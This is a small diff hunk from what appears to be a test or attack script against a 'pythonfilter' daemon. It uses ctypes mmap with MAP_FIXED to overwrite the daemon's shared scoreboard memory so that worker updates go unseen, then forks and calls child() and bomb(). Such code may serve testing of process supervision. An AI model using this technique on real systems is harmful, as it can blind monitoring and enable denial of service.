@@ -62,7 +62,7 @@ import ctypes
 line = [line for line in open("/proc/self/maps") if "pythonfilter-scoreboard" in line][0]
 mmap = ctypes.CDLL(None).mmap
 mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
-mmap(int(line.split("-")[0], 16), 32768, 3, 0x32, -1, 0)  # what the worker writes there, nobody reads
+mmap(int(line.split("-")[0], 16), 4096, 3, 0x32, -1, 0)  # what the worker writes there, nobody reads
 if os.fork() == 0:
     child()
     bomb()
